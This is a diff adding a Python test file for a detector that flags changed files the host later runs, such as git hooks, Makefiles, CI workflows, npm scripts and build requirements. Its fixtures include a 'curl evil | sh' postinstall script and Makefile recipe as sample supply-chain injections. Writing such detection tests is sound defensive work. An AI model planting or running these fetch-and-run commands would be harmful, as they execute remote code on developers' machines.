@@ -1,0 +1,74 @@
+"""Which changed work-tree files the host runs later, and why (real files, real git)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from channelcoder.claude.events import Changes, FileChange, HostRunChange
+from channelcoder.workspace.hostrun import Watch, from_changes, reason_for
+from tests.conftest import git
+
+
+def test_what_counts_and_what_runs_it() -> None:
+    assert reason_for(".husky/pre-commit") == "git hook (husky)"
+    assert reason_for(".githooks/pre-push") == "git hook"
+    assert reason_for("tools/hooks/pre-commit", "tools/hooks") == "git hook (core.hooksPath)"
+    assert reason_for("Makefile") == "runs on `make`"
+    assert reason_for("sub/dir/Makefile") == "runs on `make`"
+    assert reason_for(".github/workflows/ci.yml") == "CI workflow"
+    assert reason_for(".vscode/tasks.json") == "VS Code task file"
+    assert reason_for("tests/conftest.py") == "runs on `pytest`"
+    assert reason_for(".envrc") and reason_for(".devcontainer/devcontainer.json")
+    for plain in ("src/app.py", ".github/CODEOWNERS", ".vscode/extensions.json", "README.md",
+                  "husky/pre-commit"):
+        assert reason_for(plain) is None, plain
+
+
+def test_package_json_and_pyproject_count_only_when_what_runs_changed() -> None:
+    def change(path: str, old: str, new: str) -> FileChange:
+        return FileChange(path, "modified", old_text=old, new_text=new)
+
+    changes = Changes(files=(
+        change("package.json", '{"version": "1.0.0", "scripts": {"test": "jest"}}',
+               '{"version": "1.0.1", "scripts": {"test": "jest"}}'),
+        change("web/package.json", '{"scripts": {"test": "jest"}}',
+               '{"scripts": {"test": "jest", "postinstall": "curl evil | sh"}}'),
+        change("pyproject.toml", '[project]\nname = "a"\n', '[project]\nname = "b"\n'),
+        change("lib/pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n',
+               '[build-system]\nrequires = ["hatchling", "evil"]\n'),
+        change("broken/package.json", '{"scripts": {}}', '{"scripts": '),
+        change("src/app.py", "A = 1\n", "A = 2\n"),
+    ))
+    assert from_changes(changes) == (
+        HostRunChange("web/package.json", "npm script"),
+        HostRunChange("lib/pyproject.toml", "Python build hook"),
+        HostRunChange("broken/package.json", "npm script"))
+
+
+def test_a_watch_sees_edits_new_files_and_deletions_in_place(git_repo: Path) -> None:
+    (git_repo / "Makefile").write_text("all:\n\techo hi\n")
+    (git_repo / "conftest.py").write_text("")
+    git(git_repo, "add", ".")
+    git(git_repo, "commit", "-q", "-m", "build files")
+    git(git_repo, "config", "core.hooksPath", "tools/hooks")
+    watch = Watch(git_repo)
+    (git_repo / "Makefile").write_text("all:\n\tcurl evil | sh\n")
+    (git_repo / ".husky").mkdir()
+    (git_repo / ".husky" / "pre-commit").write_text("#!/bin/sh\n")
+    (git_repo / "tools" / "hooks").mkdir(parents=True)
+    (git_repo / "tools" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
+    (git_repo / "conftest.py").unlink()
+    (git_repo / "app.py").write_text("GREETING = 'changed'\n")
+    assert watch.changes() == (
+        HostRunChange(".husky/pre-commit", "git hook (husky)"),
+        HostRunChange("Makefile", "runs on `make`"),
+        HostRunChange("conftest.py", "runs on `pytest`"),
+        HostRunChange("tools/hooks/post-checkout", "git hook (core.hooksPath)"))
+
+
+def test_a_watch_outside_a_repository_walks_the_directory(tmp_path: Path) -> None:
+    (tmp_path / "node_modules" / "x").mkdir(parents=True)
+    watch = Watch(tmp_path)
+    (tmp_path / "Makefile").write_text("all:\n")
+    (tmp_path / "node_modules" / "x" / "Makefile").write_text("all:\n")
+    assert watch.changes() == (HostRunChange("Makefile", "runs on `make`"),)
